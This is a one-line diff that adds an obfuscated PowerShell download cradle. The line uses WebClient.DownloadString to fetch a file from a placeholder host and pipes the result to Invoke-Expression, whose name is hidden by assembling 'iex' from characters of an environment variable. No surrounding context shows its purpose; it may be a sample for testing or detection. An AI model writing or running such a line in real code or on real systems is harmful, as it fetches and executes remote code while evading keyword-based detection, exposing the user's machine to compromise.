@@ -1,0 +1,1 @@
+'$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')' | &($env:Public[13]+$env:Public[5]+'x')
